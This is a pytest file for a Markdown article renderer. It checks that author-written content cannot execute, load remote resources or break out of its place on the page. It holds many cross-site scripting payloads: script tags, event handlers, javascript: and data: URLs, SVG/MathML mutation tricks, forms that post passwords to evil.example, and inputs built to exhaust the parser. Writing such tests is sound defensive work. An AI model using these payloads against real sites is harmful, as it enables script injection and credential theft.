"""Nothing that an author can write executes, loads from elsewhere, or breaks out of its place on the page."""

import time
from pathlib import Path

import pytest

from playbook.library.articles import read_article
from playbook.library.content import Library
from playbook.library.markdown import render
from playbook.library.problems import ContentError
from playbook.library.terms import Term
from tests.library.markup import dangers

FRONT = "---\ntitle: T\nsummary: S\nowner: O\nreviewed: 2026-11-20\n---\n"
LIBRARY = Library(
    Path("content"),
    glossary={"alert": Term(slug="alert", term="alert", definition='<img src=x onerror="alert(1)">')},
)
_MGLYPH = '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script\n>alert(1)\n</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "\\<script>alert(1)</script>",
    "`<script>`alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``` { .python onclick=alert(1) #main }\nx\n```",
    "## <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "/// note | <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n///",
]
HANDLERS = [
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror\t=\talert(1)>",
    '<img """><script>alert(1)</script>">',
    '"><img src=x onerror=alert(1)>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<p onmouseover="alert(1)">x</p>',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "## <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '![x](x.png "a\\" onerror=\\"alert(1)")',
    '[x](rank.md "a\\" onclick=\\"alert(1)")',
    "/// note\n    attrs: {onclick: alert(1), class: site-head, id: main, style: 'x'}\nx\n///",
    "/// tab | <img src=x onerror=alert(1)>\nx\n///",
    '/// checklist | "><script>alert(1)</script>\n///',
    '/// checklist | go" onclick="alert(1)\n///',
    '<a href="x" hx-get="/account/" hx-trigger="load">x</a>',
    '<p data-hx-post="/decisions/" id="<script>">x</p>',
]
ADDRESSES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)" target=_blank ping="https://evil.example">x</a>',
    "<javascript:alert(1)>",
    '[x]: javascript:alert(1) "y"\n\n[x]',
    "[[javascript:alert(1)]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    '[[x#" onclick="alert(1)]]',
    "[x](wiki:javascript:alert(1))",
    "[x](WIKI:lora)",
]
EMBEDDED = [
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'></svg>#x\"/></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    _MGLYPH,
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\style{position:fixed}{x}$ $\\class{button}{y}$",
    '<code class="math-inline">\\text{&lt;/mtext&gt;&lt;script&gt;alert(1)&lt;/script&gt;}</code>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "<audio src=x autoplay></audio><video poster=https://evil.example/x></video>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]
LOOKS = [
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<div class="callout site-head button">x</div>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="password" class="tab-choice"><label for="id_password">Password</label>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option>x</option></select><dialog open>x</dialog>",
    '<p class="tab-title" id="tab-1-1">forged</p>',
    '<div class="embed" data-embed="job" data-ref="forged"></div>',
    '<span class="term-definition" role="tooltip">forged</span>',
]
MUTATIONS = [
    "<p><b><i></p></b></div></div></main></body></html>x",
    "<div>" * 50 + "x",
    "</div>" * 50 + "<p>x",
    "<table><tr><td><table></td></tr>x",
    "<a href=#><a href=#>x</a>",
    "<p><p><h2><h2>x",
    "<ul><li><ol><li></ul>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--x--!><script>alert(1)</script>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x>'>]>&x;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
    "<p title='`'><img src=x onerror=alert(1)>'>",
    "a\x02klzzwxh:0000\x03b and \x02wzxhzdk:0\x03 \x021\x03",
    "\u202e<script>alert(1)</script>\u2066",
    "<ſcript>alert(1)</ſcript> <\uff1cscript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a title=\"<b>alert\">alert</a> <abbr title='alert > alert'>x</abbr> alert",
]


@pytest.mark.parametrize("body", [*SCRIPTS, *HANDLERS, *ADDRESSES, *EMBEDDED, *LOOKS, *MUTATIONS])
def test_nothing_that_an_author_writes_executes(body: str) -> None:
    article = read_article("articles/train/lora.md", FRONT + body)
    try:
        html = render(article, {"articles/train/rank.md": "/rank/"}.get, LIBRARY).html
    except ContentError:
        return  # refused as a whole, which is safe too

    assert dangers(html) == []
    assert not any(word in html for word in ('class="callout', "site-head", 'class="button', "evil.example/pixel"))
    assert html.count('role="tooltip"') <= 1


@pytest.mark.parametrize(
    "body",
    [
        "*" * 500_000,
        "> " * 10_000 + "x",
        ">" * 10_000 + "x",
        "- " * 10_000 + "x",
        "[" * 10_000,
        "![" * 10_000,
        "[[" * 5_000 + "]]" * 5_000,
        "`" * 10_001,
        "$" * 40_000,
        "$x " * 10_000,
        "$" + "{" * 10_000 + "$",
        "<" * 20_000,
        "<div>" * 5_000,
        "(" * 40_000,
        "_a_" * 10_000,
        "**a" * 10_000,
        "| " * 15_000 + "\n" + "|-" * 15_000,
        "/// note\n" * 1_000,
        "/// tab | x\n" * 1_000,
        "1. " * 10_000,
        "&" * 40_000,
        "\\" * 40_000,
        "[^1]: " * 5_000,
        "# " * 10_000,
        "x\n" * 100_000,
        "term\u00ad" * 7_000,
    ],
    ids=lambda body: repr(body[:8]),
)
def test_hostile_text_is_refused_or_rendered_soon(body: str) -> None:
    """No promise is timed here: the ceiling only tells seconds from minutes."""
    started = time.monotonic()
    try:
        article = read_article("articles/train/lora.md", FRONT + body)
        assert dangers(render(article, lambda path: None, LIBRARY).html) == []
    except ContentError as error:
        assert error.found[0][0] >= 7  # noqa: PT017 - either outcome is right

    assert time.monotonic() - started < 60


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ("<p>fine</p>", []),
        ("<p onclick=x>a</p>", ["p[onclick]"]),
        ('<a href="javascript:x">a</a>', ["a[href=javascript:x]"]),
        ("<svg></svg>", ["<svg>"]),
        ("<div><p></div>", ["</div> out of place", "<div> left open"]),
        ("<!-- x -->", ["<!-- x -->"]),
        ("<input>", ["input that is no radio button"]),
    ],
)
def test_the_measure_itself_finds_dangers(html: str, found: list[str]) -> None:
    assert dangers(html) == found
